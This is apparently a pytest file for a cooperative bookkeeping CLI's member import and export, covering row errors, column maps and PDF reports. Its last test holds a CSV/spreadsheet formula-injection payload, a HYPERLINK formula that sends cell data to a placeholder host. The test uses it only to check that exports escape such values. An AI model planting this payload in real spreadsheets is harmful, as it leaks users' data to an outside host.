"""CLI contract for members: import (dry run, row errors, all-or-nothing), export, papers."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kopdesk.cli import main
from kopdesk.services.members import register as members
from kopdesk.storage.db import open_book
from tests.helpers import take_snapshot

HEADER = "No. Anggota,Nama Lengkap,NIK,Tanggal Lahir,Jenis Kelamin,No. HP,Tanggal Masuk,Status\n"
GOOD = (
    "A-0007,Siti Aminah,3273015504900002,15-04-1990,P,0812-3456-7890,02-01-2020,aktif\n"
    ",Budi Santoso,3171011708450001,17-08-1945,L,,01-07-2019,aktif\n"
)


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def db(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> Path:
    path = tmp_path / "buku.sqlite"
    assert run(capsys, "init", "--db", str(path), "--name", "KSP Amanah", "--year", "2025")[0] == 0
    return path


def test_import_dry_run_then_import(
    capsys: pytest.CaptureFixture[str], db: Path, tmp_path: Path
) -> None:
    source = tmp_path / "anggota.csv"
    source.write_text(HEADER + GOOD, encoding="utf-8")
    code, out, _ = run(capsys, "import", "members", str(source), "--db", str(db), "--dry-run")
    assert code == 0
    assert "2 anggota siap diimpor" in out
    book = open_book(db)
    with book.read() as s:
        assert members.count_members(s) == 0
    code, out, _ = run(capsys, "import", "members", str(source), "--db", str(db))
    assert code == 0
    assert "2 anggota diimpor (A-0007 s.d. A-0008)" in out
    with book.read() as s:
        assert members.get_member(s, "A-0008").full_name == "Budi Santoso"
    book.close()


def test_import_with_errors_prints_each_row_and_writes_nothing(
    capsys: pytest.CaptureFixture[str], db: Path, tmp_path: Path
) -> None:
    source = tmp_path / "salah.csv"
    source.write_text(
        HEADER
        + GOOD
        + ",Pak Excel,3.17101E+15,,L,,01-01-2020,aktif\n"
        + ",Tanpa Tanggal,3273011203800005,,L,,31-02-2020,aktif\n"
        + ",Status Aneh,3273011203800006,,L,,01-01-2020,pensiun\n",
        encoding="utf-8",
    )
    book = open_book(db)
    before = take_snapshot(book)
    code, out, _ = run(capsys, "import", "members", str(source), "--db", str(db))
    assert code == 1
    lines = out.strip().splitlines()
    assert lines[0].startswith("Baris 4, kolom NIK: NIK 3.17101E+15 dirusak Excel")
    assert lines[1].startswith("Baris 5, kolom Tanggal Masuk:")
    assert lines[2].startswith("Baris 6, kolom Status:")
    assert lines[-1] == "3 masalah; tidak ada yang disimpan."
    assert take_snapshot(book) == before
    book.close()


def test_import_with_a_column_map(
    capsys: pytest.CaptureFixture[str], db: Path, tmp_path: Path
) -> None:
    source = tmp_path / "lain.csv"
    source.write_text(
        "Kode;Nama Warga;KTP;Gabung\nA-9;Siti Aminah;3273015504900002;01-02-2020\n",
        encoding="utf-8",
    )
    code, out, _ = run(capsys, "import", "members", str(source), "--db", str(db))
    assert code == 1
    assert "Kolom wajib tidak ditemukan" in out
    code, out, _ = run(
        capsys,
        "import",
        "members",
        str(source),
        "--db",
        str(db),
        "--map",
        "number=Kode",
        "--map",
        "full_name=Nama Warga",
        "--map",
        "nik=KTP",
        "--map",
        "join_date=Gabung",
    )
    assert (code, out.strip()) == (0, "1 anggota diimpor (A-9 s.d. A-9).")


def test_export_and_papers(capsys: pytest.CaptureFixture[str], db: Path, tmp_path: Path) -> None:
    source = tmp_path / "anggota.csv"
    source.write_text(HEADER + GOOD, encoding="utf-8")
    assert run(capsys, "import", "members", str(source), "--db", str(db))[0] == 0
    out_csv = tmp_path / "ekspor.csv"
    assert run(capsys, "export", "members", "--db", str(db), "--out", str(out_csv))[0] == 0
    rows = list(csv.DictReader(out_csv.read_text(encoding="utf-8-sig").splitlines()))
    assert [(r["No. Anggota"], r["NIK"], r["No. HP"]) for r in rows] == [
        ("A-0007", "3273015504900002", "0812-3456-7890"),
        ("A-0008", "3171011708450001", ""),
    ]
    for command, extra in [
        ("members", []),
        ("member-cards", []),
        ("member-profile", ["--number", "A-0007"]),
    ]:
        pdf = tmp_path / f"{command}.pdf"
        code, _, err = run(capsys, "report", command, "--db", str(db), *extra, "--out", str(pdf))
        assert (code, err) == (0, "")
        assert pdf.read_bytes().startswith(b"%PDF")
        code, out, _ = run(capsys, "verify", str(pdf), "--db", str(db))
        assert code == 0, out
    code, _, err = run(
        capsys, "report", "members", "--db", str(db), "--out", str(tmp_path / "x.csv")
    )
    assert code == 1
    assert ".pdf" in err


def test_member_status_from_the_cli(
    capsys: pytest.CaptureFixture[str], db: Path, tmp_path: Path
) -> None:
    source = tmp_path / "anggota.csv"
    source.write_text(HEADER + GOOD, encoding="utf-8")
    run(capsys, "import", "members", str(source), "--db", str(db))
    code, out, _ = run(
        capsys,
        "member",
        "status",
        "--db",
        str(db),
        "--number",
        "A-0007",
        "--to",
        "keluar",
        "--date",
        "2025-06-30",
        "--reason",
        "Pindah kota",
    )
    assert code == 0
    assert "Keluar sejak 30-06-2025" in out
    code, out, _ = run(capsys, "member", "list", "--db", str(db), "--status", "keluar")
    assert out.strip().startswith("A-0007")


INJECTED = '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")'


def test_exports_write_a_formula_like_name_as_text(
    capsys: pytest.CaptureFixture[str], db: Path, tmp_path: Path
) -> None:
    """Issue 14 item 16: a member named like a formula went into the .xlsx as a live
    formula and into the .csv unescaped; a NUL from a CSV broke the .xlsx export."""
    source = tmp_path / "anggota.csv"
    rows = [
        ["No. Anggota", "Nama Lengkap", "NIK", "Tanggal Masuk"],
        ["A-0001", INJECTED, "3273015504900002", "02-01-2020"],
        ["A-0002", "@SUM(1+1)", "3171011708450001", "01-07-2019"],
        ["A-0003", "Rina\x00 Marlina", "3273014101850003", "01-07-2019"],
    ]
    with source.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    code, _, err = run(capsys, "import", "members", str(source), "--db", str(db))
    assert (code, err) == (0, "")

    xlsx = tmp_path / "ekspor.xlsx"
    assert run(capsys, "export", "members", "--db", str(db), "--out", str(xlsx))[0] == 0
    with zipfile.ZipFile(xlsx) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(xlsx).active
    assert sheet is not None
    names = [(c.value, c.data_type) for (c,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2)]
    assert names == [(INJECTED, "s"), ("@SUM(1+1)", "s"), ("Rina Marlina", "s")]

    out_csv = tmp_path / "ekspor.csv"
    assert run(capsys, "export", "members", "--db", str(db), "--out", str(out_csv))[0] == 0
    exported = list(csv.DictReader(out_csv.read_text(encoding="utf-8-sig").splitlines()))
    assert [r["Nama Lengkap"] for r in exported] == ["'" + INJECTED, "'@SUM(1+1)", "Rina Marlina"]
